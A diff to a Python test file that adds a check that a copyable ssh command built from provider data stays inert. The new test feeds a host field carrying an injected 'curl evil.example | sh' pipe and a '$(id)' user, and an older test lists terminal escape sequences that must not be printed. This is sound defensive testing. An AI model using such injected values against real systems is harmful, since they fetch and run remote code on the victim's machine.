@@ -5,15 +5,19 @@ from __future__ import annotations
 import json
 import os
 import re
+import shlex
 import subprocess
 import sys
 from collections.abc import Iterator
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
+from stationmaster.model import SshAccess
 from stationmaster.printable import printable
 from stationmaster.station.wire.problem import MEDIA_TYPE, Problem
+from stationmaster.tui.sources.job_lines import ssh_command
 from tests.support.commands.terminal import Session, at_terminal
 from tests.support.jobs.hostile_texts import (
     CONTROLS,
@@ -169,6 +173,13 @@ def test_the_app_draws_a_hostile_job_without_its_escapes(world: LocalWorld) -> N
     assert "[bold red]h[/]" in app.text()
     for never in ("\x1b]0;", "]52;", "pwned", "\x1b[2J\x1b[H", "\x1bc", "\x1b(0", "\x9b", "\x9d", "\u202e", "\u2066"):
         assert never not in written
+
+
+def test_a_copied_ssh_command_runs_nothing_that_a_provider_wrote(world: LocalWorld) -> None:
+    access = SshAccess(host="h; curl evil.example | sh\nx", port=22, user="$(id)", job_root="/job")
+    command = ssh_command(replace(world.station.jobs.view(_JOB), access=access))
+    assert command is not None
+    assert shlex.split(command) == ["ssh", "-p", "22", "$(id)@h; curl evil.example | sh\nx"]
 
 
 def test_a_job_that_is_followed_in_a_few_lines_is_text(world: LocalWorld) -> None:
